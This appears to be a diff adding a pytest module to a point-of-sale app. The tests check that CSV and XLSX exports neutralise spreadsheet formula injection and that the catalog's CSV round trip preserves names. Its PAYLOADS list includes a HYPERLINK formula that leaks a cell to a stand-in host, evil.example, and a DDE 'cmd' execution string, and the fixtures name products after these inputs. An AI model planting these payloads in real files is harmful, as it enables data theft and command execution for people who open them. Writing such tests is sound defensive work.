@@ -1,0 +1,210 @@
+"""No download ever carries a formula. Every product and producer is named like an attack, then every route of
+both roles' URL maps is opened as a CSV and as an XLSX: whatever comes back as a download must hold no cell a
+spreadsheet would run (CSV: a leading apostrophe; XLSX: text cells), and the names must still read as typed.
+The catalog's CSV round trip keeps a name that starts with a formula character."""
+import csv
+import io
+import uuid
+from datetime import date, timedelta
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import func, select
+
+from pos.catalog.csv_io import export_csv, import_csv
+from pos.checkout.sales import record_sale
+from pos.checkout.shifts import open_shift
+from pos.exports import guard_cell, unguard_cell
+from pos.extensions import db as _db
+from pos.inventory.consignment import settle
+from pos.inventory.counts import open_count
+from pos.inventory.receipts import create_receipt, post_receipt
+from pos.inventory.transfers import create_transfer_in, create_transfer_out
+from pos.models import (
+    ConsignmentSettlement, GoodsReceipt, Lot, Producer, Product, RemoteProduct, Sale, Shift, StockCount, Transfer,
+)
+from tests.conftest import make_producer, make_product
+from tests.test_central_reports import TODAY, _ingest, _sale
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\tTab=1+1", "\r=1+1"]
+DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _is_plain_number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def _csv_cells(response) -> list[str]:
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def _xlsx_cells(response) -> list:
+    book = load_workbook(io.BytesIO(response.data))
+    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+
+
+def _check_download(response, where: str) -> bool:
+    """Fails on any cell a spreadsheet would run; True when the download holds one of the payloads."""
+    if response.mimetype == "text/csv":
+        cells = _csv_cells(response)
+        for cell in cells:
+            assert not (cell[:1] in DANGEROUS_START and not _is_plain_number(cell)), f"{where}: formula cell {cell!r}"
+        return any(cell == "'" + payload for cell in cells for payload in PAYLOADS)
+    cells = _xlsx_cells(response)
+    for cell in cells:
+        assert cell.data_type != "f", f"{where}: formula cell {cell.coordinate} {cell.value!r}"
+    return any(cell.value == payload and cell.data_type == "s" for cell in cells for payload in PAYLOADS)
+
+
+def _row_ids() -> dict:
+    def newest(column):
+        return [_db.session.scalar(select(func.max(column)))]
+    return {
+        "product_id": newest(Product.id), "producer_id": newest(Producer.id), "transfer_id": newest(Transfer.id),
+        "settlement_id": newest(ConsignmentSettlement.id), "count_id": newest(StockCount.id),
+        "receipt_id": newest(GoodsReceipt.id), "shift_id": newest(Shift.id), "sale_uuid": newest(Sale.uuid),
+        "number": newest(Sale.number), "lookup_code": newest(Sale.lookup_code), "lot": newest(Lot.code),
+        "code": [(_db.session.scalar(select(func.max(Product.gtin))) or "1").rjust(14, "0")],
+        "filename": ["x.png"],
+    }
+
+
+def _walk_downloads(app, client) -> dict[str, bool]:
+    """endpoint → whether its download held a payload, for every GET route that answers with a CSV or XLSX."""
+    ids, found = _row_ids(), {}
+    if app.config["POS_ROLE"] == "central":
+        ids["product_id"] = [_db.session.scalar(select(func.max(RemoteProduct.id)))] + ids["product_id"]
+    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
+        if "GET" not in rule.methods or rule.endpoint == "static":
+            continue
+        combos = [{}]
+        for name, converter in rule._converters.items():
+            values = sorted(converter.items) if hasattr(converter, "items") else ids.get(name)
+            assert values, f"{rule.rule}: the export walk needs a value to try for <{name}>"
+            combos = [dict(combo, **{name: value}) for combo in combos for value in values]
+        for values in combos:
+            with app.test_request_context():
+                path = app.url_for(rule.endpoint, **values)
+            for query in ("", "?format=csv", "?format=xlsx", "?format=csv&preset=this_year",
+                          "?format=xlsx&preset=this_year"):
+                response = client.get(path + query)
+                assert response.status_code < 500, path + query
+                if response.mimetype == "text/csv" or response.mimetype.endswith("spreadsheetml.sheet"):
+                    kind = "csv" if response.mimetype == "text/csv" else "xlsx"
+                    key = f"{rule.endpoint} {kind}"
+                    found[key] = _check_download(response, path + query) or found.get(key, False)
+    return found
+
+
+@pytest.fixture
+def attacked_showroom(app, users, db):
+    """Every product and producer named like an attack, with stock, an expiring lot, sales, a count, transfers
+    and a consignment settlement: every list that can be downloaded has rows."""
+    manager, cashier = users["manager"], users["cashier"]
+    open_shift(cashier, 500_000)
+    producers = [make_producer(name=payload) for payload in PAYLOADS[:4]]
+    products = [make_product(producer, sku=f"ATK-{n}", name_vi=payload, price=10_000, reorder_point=50)
+                for n, (producer, payload) in enumerate(zip(producers * 2, PAYLOADS))]
+    for n, product in enumerate(products):
+        receipt = create_receipt(product.producer_id, [
+            {"sku": product.sku, "lot_code": f"L{n}", "quantity": "20", "unit_cost": "0" if n == 0 else "4000",
+             "ownership": "consignment" if n == 0 else "purchased", "commission_rate": "20",
+             "expiry_date": (date.today() + timedelta(days=5)).isoformat()}], manager)
+        post_receipt(receipt.id, manager)
+        record_sale({"uuid": str(uuid.uuid4()), "lines": [{"product_id": product.id, "quantity": 1}],
+                     "payments": [{"method": "cash", "amount": 10_000}]}, cashier)
+    settle(products[0].producer_id, date.today().isoformat(), date.today().isoformat(), manager)
+    record_sale({"uuid": str(uuid.uuid4()), "lines": [{"product_id": products[0].id, "quantity": 1}],
+                 "payments": [{"method": "cash", "amount": 10_000}]}, cashier)  # not settled yet: on the statement
+    open_count(manager)
+    create_transfer_out("HK", [{"sku": "ATK-1", "quantity": "2"}], manager)
+    create_transfer_in("HK", "@SUM(A1)", [{"sku": "ATK-2", "lot_code": "T1", "quantity": "1", "unit_cost": "4000"}],
+                       manager)
+    return products
+
+
+SHOWROOM_EXPORTS = {"catalog.export csv", "inventory.stock csv", "inventory.expiring csv", "inventory.low_stock_page csv",
+                    "inventory.count_sheet csv", "inventory.transfers csv", "inventory.transfer_detail csv",
+                    "inventory.consignment csv", "inventory.consignment_settlements csv",
+                    "inventory.settlement_detail csv", "inventory.valuation csv", "reports.showroom_day csv"}
+
+
+def test_no_showroom_download_carries_a_formula(app, admin_client, attacked_showroom):
+    found = _walk_downloads(app, admin_client)
+    assert set(found) >= SHOWROOM_EXPORTS
+    assert [endpoint for endpoint, held_payload in found.items() if not held_payload] == []
+
+
+@pytest.fixture
+def attacked_central(tmp_path):
+    from pos.auth.service import create_user
+    from pos.central.registry import add_showroom
+    from tests.conftest import PASSWORD, login, make_app
+    app = make_app(f"sqlite:///{tmp_path / 'central.sqlite3'}", POS_ROLE="central")
+    with app.app_context():
+        _db.create_all()
+        add_showroom("HK", "Điểm bán HK", secret="k" * 40)
+        create_user("boss", PASSWORD, "admin")
+        sale = _sale("HK", TODAY, [(0, 1, 35_000, 4, 5_000, False), (1, 2, 12_000, 3, None, True)])
+        for line, name, producer in zip(sale["lines"], PAYLOADS, reversed(PAYLOADS)):
+            line.update(name_vi=name, producer=producer)
+        _ingest([sale])
+        for n, payload in enumerate(PAYLOADS[:3]):
+            make_product(make_producer(name=payload), sku=f"M-{n}", name_vi=PAYLOADS[-1 - n])
+        client = app.test_client()
+        login(client, "boss")
+        yield app, client
+        _db.session.remove()
+
+
+CENTRAL_EXPORTS = {f"{endpoint} {kind}" for kind in ("csv", "xlsx") for endpoint in
+                   ("central.report_overview", "central.report_breakdown", "central.report_product")} | {"catalog.export csv"}
+
+
+def test_no_central_download_carries_a_formula(attacked_central):
+    app, client = attacked_central
+    found = _walk_downloads(app, client)
+    assert set(found) >= CENTRAL_EXPORTS
+    # the overview's and a product's exports are figures per day: no names in them to defuse
+    assert sorted(endpoint for endpoint, held in found.items() if not held) == [
+        "central.report_overview csv", "central.report_overview xlsx", "central.report_product csv",
+        "central.report_product xlsx"]
+
+
+def test_an_xlsx_keeps_the_text_and_numbers_as_they_are(attacked_central):
+    app, client = attacked_central
+    cells = _xlsx_cells(client.get("/central/reports/products?preset=today&format=xlsx"))
+    by_value = {cell.value: cell for cell in cells}
+    assert by_value[PAYLOADS[0]].data_type == "s" and by_value["+cmd|' /C calc'!A0"].data_type == "s"
+    assert by_value[35_000].data_type == "n"
+
+
+@pytest.mark.parametrize("value, guarded", [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("'=x", "''=x"), ("-Trà", "'-Trà"),
+    ("-5000", "-5000"), ("+84", "+84"), ("-1.5", "-1.5"), (-5000, -5000), ("Chè", "Chè"), ("'quoted", "'quoted"),
+    ("", ""), (None, None),
+])
+def test_a_cell_is_guarded_only_when_a_spreadsheet_would_run_it(value, guarded):
+    assert guard_cell(value) == guarded
+    if isinstance(value, str):
+        assert unguard_cell(guard_cell(value)) == value
+
+
+def test_the_catalog_round_trip_keeps_names_that_start_like_a_formula(app, db):
+    names = ["-Trà", "=x", "'=x", "@Hà Nội", "+84 Chè"]
+    for n, name in enumerate(names):
+        make_product(make_producer(name=f"{name} HTX"), sku=f"RT-{n}", name_vi=name)
+    exported = export_csv()
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    assert [row["name_vi"] for row in rows] == ["'-Trà", "'=x", "''=x", "'@Hà Nội", "'+84 Chè"]
+    result = import_csv(exported.encode())
+    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, len(names))
+    assert db.session.scalars(select(Product.name_vi).order_by(Product.sku)).all() == names
+    assert sorted(db.session.scalars(select(Producer.name))) == sorted(f"{name} HTX" for name in names)
